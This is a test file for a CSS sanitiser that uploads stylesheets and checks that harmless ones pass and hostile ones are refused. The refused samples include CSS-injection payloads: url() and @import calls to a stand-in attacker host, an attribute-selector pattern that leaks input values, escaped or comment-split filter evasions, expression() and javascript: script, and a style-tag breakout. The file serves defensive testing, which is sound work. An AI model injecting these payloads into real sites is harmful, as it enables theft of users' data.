import { expect, test } from 'vitest'
import { checkedCss, cssFault } from './css.ts'

test.each([
  '.header { color: #123; background: linear-gradient(red, blue) }',
  '.logo { background: url(data:image/png;base64,iVBORw0KGgo=) }',
  ".logo { background: url( 'data:image/webp;base64,UklGRg==' ) }",
  '.mask { clip-path: url(#shape) }',
  '.a::before { content: "\\201C say \\"hello\\" /* not a comment */" }',
  '@media (min-width: 40em) { .scroll-behavior { scroll-behavior: smooth } }',
  '/* imported from the brand guide */ .image { object-fit: cover }',
])('a sheet that only changes looks is taken: %s', (css) => {
  expect(cssFault(css)).toBeNull()
})

test.each([
  ['@import', '@import "https://evil.example/x.css";'],
  ['@import', '@\\69mport url(x.css);'],
  ['@import', '@IMPORT/**/"x.css";'],
  ['url()', 'input[value^="a"] { background: url(https://evil.example/a) }'],
  ['url()', 'a { background: u\\72l(//evil.example/a) }'],
  ['url()', 'a { background: \\000075rl( "https://evil.example" ) }'],
  ['url()', 'a { background: ur/**/l(https://evil.example) }'],
  ['url()', 'a { background: url(/api/services/app/User/GetUsers) }'],
  ['url()', 'a { background: url(data:image/svg+xml;base64,PHN2Zz4=) }'],
  ['url()', 'a { background: url(data:text/html,x) }'],
  ['url()', '@font-face { font-family: x; src: url("https://evil.example/f.woff") }'],
  ['image-set()', 'a { background: image-set("https://evil.example/a.png" 1x) }'],
  ['image()', 'a { background: image("https://evil.example/a.png") }'],
  ['expression()', 'a { width: expression(alert(1)) }'],
  ['expression()', 'a { width: exp\\72 ession(alert(1)) }'],
  ['javascript:', 'a { background: "javascript:alert(1)" }'],
  ['behavior', 'a { behavior: url(#default) }'],
  ['-moz-binding', 'a { -moz-binding: none }'],
  ['<style>', '</style><script>alert(1)</script>'],
])('D8: a sheet with %s is refused: %s', (what, css) => {
  expect(cssFault(css)).toBe(what)
})

const upload = (bytes: Uint8Array) => () => checkedCss({ bytes, fileName: 'x.css', fileType: 'text/css' })

test('bytes that are no text are no sheet', () => {
  expect(upload(new Uint8Array([0xff, 0xfe, 0x00]))).toThrow()
  expect(upload(new TextEncoder().encode('a { }\u0000'))).toThrow()
  expect(upload(new TextEncoder().encode('   '))).toThrow()
  expect(upload(new TextEncoder().encode('\ufeffa { color: red }'))().fileType).toBe('text/css; charset=utf-8')
})

test.each(['url(', '/*', '\\', ' ', '\t', '@ ', 'image ', 'behavior '])(
  'H7, A62: a long sheet of %j is judged in moments',
  (part) => {
    const begun = process.cpuUsage()
    for (const begin of ['<', '@', 'url', 'image', 'expression'])
      cssFault(`${begin}${part.repeat(100_000 / part.length)}x`)
    expect(process.cpuUsage(begun).user).toBeLessThan(1_000_000)
  },
)
